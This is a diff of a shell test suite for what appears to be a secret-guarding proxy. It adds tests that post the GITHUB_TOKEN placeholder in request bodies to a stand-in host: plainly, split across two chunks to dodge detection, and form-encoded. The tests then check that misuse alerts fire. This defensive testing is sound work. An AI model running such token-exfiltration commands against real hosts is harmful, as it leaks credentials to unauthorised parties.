@@ -177,7 +177,29 @@ mrun "${RUN[@]}" -- /bin/sh -c "printf 'GET /repos/myorg/h10 HTTP/1.0\r\nAuthori
 t_match "HTTP/1.0 without Host inside TLS: refused" "^HTTP/1.1 400.*Host header" "$(printf '%s\n' "$OUT" | grep -e ^HTTP -e ^X-Moat | tr '\n' ' ')"
 t_eq "HTTP/1.0 without Host: nothing reached the upstream" "-" "$(got /repos/myorg/h10 Authorization)"
 mrun "${RUN[@]}" -- /bin/sh -c "printf 'leak=%s' \"\$GITHUB_TOKEN\" | curl -sS -H 'Transfer-Encoding: chunked' --data-binary @- $A/repos/myorg/chunked"
-t_nomatch "placeholder in a chunked body: the value is never put into a body" "$GH_VALUE" "$(grep chunked up.log)"
+t_nomatch "placeholder in a chunked body to its host: the value is never put into a body" "$GH_VALUE" "$(grep chunked up.log)"
+# A body to a host the secret is not bound to: misuse, also chunked, also
+# cut across two chunks, also form-encoded.
+: >net.jsonl
+mrun "${RUN[@]}" -- /bin/sh -c "printf 'leak=%s' \"\$GITHUB_TOKEN\" | curl -sS --data-binary @- https://other.example.test:$P/body-plain"
+mrun "${RUN[@]}" -- python3 -c "
+import os, http.client, ssl
+ph = os.environ['GITHUB_TOKEN']
+c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ssl.create_default_context())
+c.set_tunnel('other.example.test', $P)
+c.putrequest('POST', '/body-chunked')
+c.putheader('Transfer-Encoding', 'chunked')
+c.endheaders()
+try:
+    for part in ('leak=' + ph[:20], ph[20:]):
+        c.send(b'%x\\r\\n%s\\r\\n' % (len(part), part.encode()))
+    c.send(b'0\\r\\n\\r\\n')
+    print(c.getresponse().status)
+except Exception as e:
+    print('cut', type(e).__name__)"
+mrun "${RUN[@]}" -- /bin/sh -c "curl -sS --data-urlencode \"k=\$GITHUB_TOKEN\" https://other.example.test:$P/body-form"
+t_eq "placeholder in bodies to another host: three secret.misuse alerts" 3 \
+	"$(grep '"type":"secret.misuse"' net.jsonl | grep -c 'in a request body to other.example.test')"
 mrun "${RUN[@]}" -- /bin/sh -c "curl -sS -L -H \"Authorization: Bearer \$GITHUB_TOKEN\" \"$A/repos/myorg/redirect\""
 t_nomatch "the value reaches no path it is not bound to" "$GH_VALUE" "$(grep -v -e '/repos/myorg/' -e '/v1/' up.log)"
 
